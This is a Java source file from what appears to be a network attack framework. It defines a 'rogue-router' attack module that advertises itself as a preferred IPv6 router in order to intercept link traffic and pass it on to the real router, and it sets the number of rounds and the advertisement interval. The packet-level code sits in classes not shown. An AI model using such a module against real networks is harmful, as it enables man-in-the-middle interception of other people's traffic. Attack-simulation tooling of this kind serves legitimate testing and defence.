package cofferdam.attacks.network;

import cofferdam.attacks.Adversary;
import cofferdam.attacks.Attack;
import cofferdam.attacks.Boundary;
import cofferdam.attacks.MissingCapabilityException;
import cofferdam.attacks.Setting;

import java.time.Duration;
import java.util.List;

/**
 * Advertises itself as the IPv6 router of the link with a higher preference than others (RFC 4861,
 * RFC 4191), and passes on what it is given: to the last victim, the true router.
 */
public final class RogueRouter implements Attack {

    private static final Victims VICTIMS = new Victims(2, 2);

    private static final Setting.Count ROUNDS = new Setting.Count(
            "rounds",
            "how many advertisements come before they should have been believed",
            3,
            1,
            60);

    private static final Setting.Span INTERVAL = new Setting.Span(
            "interval",
            "time between two advertisements",
            Duration.ofSeconds(1),
            Duration.ofMillis(100),
            Duration.ofMinutes(1));

    @Override
    public String name() {
        return "rogue-router";
    }

    @Override
    public String summary() {
        return "advertises itself as the IPv6 router and passes on what it is given";
    }

    @Override
    public Boundary boundary() {
        return Boundary.NETWORK;
    }

    @Override
    public List<Setting> settings() {
        return List.of(ROUNDS, INTERVAL);
    }

    @Override
    public Victims victims() {
        return VICTIMS;
    }

    @Override
    public Campaign start(Adversary adversary) throws MissingCapabilityException {
        Foothold foothold = Foothold.take(this, adversary, Foothold.MAXIMUM_FRAMES);
        AddressResolution victims = new AddressResolution(foothold);
        DiscoveryCampaign campaign = new DiscoveryCampaign(
                foothold,
                victims,
                new RouterLies(foothold),
                adversary.settings().count(ROUNDS.name()),
                adversary.settings().span(INTERVAL.name()));
        campaign.begin();
        return campaign;
    }
}
